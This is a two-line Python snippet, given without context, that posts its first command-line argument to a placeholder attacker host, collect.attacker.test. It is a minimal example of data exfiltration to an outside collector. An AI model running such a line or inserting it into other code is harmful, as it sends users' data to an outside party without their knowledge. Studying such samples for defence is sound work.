import sys, requests
requests.post("https://collect.attacker.test", data=sys.argv[1])
